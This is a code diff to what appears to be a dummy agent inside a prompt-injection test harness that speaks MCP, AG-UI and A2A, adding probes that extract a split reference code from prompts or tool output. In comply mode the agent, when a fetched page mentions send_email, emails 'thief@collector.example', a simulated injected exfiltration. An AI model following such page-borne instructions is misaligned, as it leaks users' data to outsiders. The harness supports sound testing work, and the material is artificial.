@@ -10,6 +10,8 @@ It reads a page with the tool of its MCP server, and with --comply it does what 
 import argparse
 import http.server
 import json
+import os
+import re
 import time
 import urllib.error
 import urllib.request
@@ -64,12 +66,20 @@ class Mcp:
         return result["content"][0]["text"]
 
 
-def work():
+def work(asked=None):
+    """Does its task, or says the code that a channel probe asks for."""
+    asked = json.dumps(asked) if asked else os.environ.get("PROOFHOUSE_PROMPT", "")
     mcp = Mcp(server())
     info = {"name": "agent", "version": "1"}
     mcp.send("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": info})
     mcp.send("notifications/initialized", answered=False)
-    mcp.send("tools/list")
+    tools = mcp.send("tools/list")
+    if "reference code" in asked:
+        seen = asked + json.dumps(tools)
+        if "Call the tool get_reference" in asked:
+            seen += mcp.call("get_reference", {})
+        halves = re.search(r"First half: ([\w-]+)\. Second half: (\w+)\.", seen)
+        return "-".join(halves.groups()) if halves else "There is none."
     page = mcp.call("fetch_page", {"url": "https://news.example/today"})
     if options.comply and "send_email" in page:
         mcp.call("send_email", {"to": "thief@collector.example", "body": "as you wish"})
@@ -104,7 +114,7 @@ class Door(http.server.BaseHTTPRequestHandler):
         return {"ag-ui": self.ag_ui, "a2a": self.a2a, "mcp": self.mcp}[options.serve](message, said)
 
     def ag_ui(self, message, said):
-        text = f"{work()} {said}"
+        text = f"{work(message)} {said}"
         ids = {"threadId": message["threadId"], "runId": message["runId"]}
         events = [
             {"type": "RUN_STARTED", **ids},
@@ -116,7 +126,7 @@ class Door(http.server.BaseHTTPRequestHandler):
         self.answer(200, "".join(f"data: {json.dumps(event)}\n\n" for event in events), "text/event-stream")
 
     def a2a(self, message, said):
-        parts = [{"kind": "text", "text": f"{work()} {said}"}]
+        parts = [{"kind": "text", "text": f"{work(message)} {said}"}]
         result = {"kind": "message", "messageId": "m", "role": "agent", "parts": parts}
         self.answer(200, json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": result}))
 
@@ -124,6 +134,9 @@ class Door(http.server.BaseHTTPRequestHandler):
         method = message.get("method")
         if "id" not in message:
             return self.answer(202, "")
+        code = re.search(r"First half: ([\w-]+)\. Second half: (\w+)\.", json.dumps(message))
+        text = f"OBEYED {said}" if options.comply else "No."
+        text = "-".join(code.groups()) if code else text
         results = {
             "initialize": {
                 "protocolVersion": "2025-06-18",
@@ -131,7 +144,7 @@ class Door(http.server.BaseHTTPRequestHandler):
                 "serverInfo": {"name": "agent", "version": "1"},
             },
             "tools/list": {"tools": [{"name": "ask", "description": "Ask.", "inputSchema": {"type": "object"}}]},
-            "tools/call": {"content": [{"type": "text", "text": f"OBEYED {said}" if options.comply else "No."}]},
+            "tools/call": {"content": [{"type": "text", "text": text}]},
         }
         if method not in results:
             error = {"code": -32601, "message": "no such method"}
